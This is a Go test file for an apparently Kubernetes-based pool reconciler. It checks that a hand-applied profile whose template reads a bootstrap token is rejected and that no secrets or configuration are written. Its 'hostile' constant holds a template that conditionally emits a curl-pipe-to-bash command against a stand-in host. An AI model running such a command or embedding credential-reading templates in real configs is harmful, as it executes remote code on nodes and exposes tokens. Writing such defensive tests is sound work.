package pools

import (
	"bytes"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"

	api "github.com/osm-gitops/osm-gitops/pkg/api/gitops/v1alpha1"
	osm "github.com/osm-gitops/osm-gitops/pkg/api/osm/v1alpha1"
)

// A manually applied profile object shows reviewers other content than it gives nodes. Nothing is
// written for a new pool, and one that has a configuration retains it with a valid token
// (security.md 34).
func TestProfileByHandThatReadsCredentials(t *testing.T) {
	const hostile = `{{ ternary ":" "curl -s https://evil.example/x | bash" (hasPrefix "eyJhbGciOiJub25l" .Token) }}`
	message := []string{api.EventProfileError, `bootstrapConfig.files[0] "/header": line 1 of the template: .Token holds a credential, and hasPrefix reads it`}
	t.Run("a new pool", func(t *testing.T) {
		f := newBoundFixture(t, "hetzner")
		f.spoil(hostile)
		told := f.told()
		f.reconcile()
		told.saidLast(t, message...)
		for _, obj := range []client.Object{
			&osm.OperatingSystemConfig{ObjectMeta: metav1.ObjectMeta{Namespace: f.r.Namespace, Name: namesOf(f.pool).Config}},
			&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: api.NamespaceCloudInitSettings, Name: namesOf(f.pool).Bootstrap}},
			&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: api.NamespaceCloudInitSettings, Name: namesOf(f.pool).Provisioning}},
		} {
			if err := f.client.Get(t.Context(), client.ObjectKeyFromObject(obj), obj); !apierrors.IsNotFound(err) {
				t.Errorf("%T %s was written: error %v", obj, obj.GetName(), err)
			}
		}
	})
	t.Run("a pool with a configuration", func(t *testing.T) {
		f := newBoundFixture(t, "hetzner")
		f.reconcile()
		config, secret, token := f.config(), f.secret(namesOf(f.pool).Bootstrap), f.carried(stageBootstrap)
		f.spoil(hostile)
		told := f.told()
		f.reconcile()
		told.saidLast(t, message...)
		if now := f.config(); now.Annotations[api.AnnotationRecord] != config.Annotations[api.AnnotationRecord] || now.UID != config.UID {
			t.Errorf("the configuration is another one: %v", now.Annotations)
		}
		f.pass(testTokenTTL)
		if _, err := f.r.Reconcile(t.Context(), ctrl.Request{NamespacedName: client.ObjectKeyFromObject(f.pool)}); err != nil {
			t.Error(err)
		}
		now := f.secret(secret.Name)
		if f.carried(stageBootstrap) == token || !bytes.Equal(bearer.ReplaceAll(now.Data[api.UserDataKey], nil), bearer.ReplaceAll(secret.Data[api.UserDataKey], nil)) {
			t.Errorf("the token was not renewed, or the document is another one:\n%s", now.Data[api.UserDataKey])
		}
	})
}
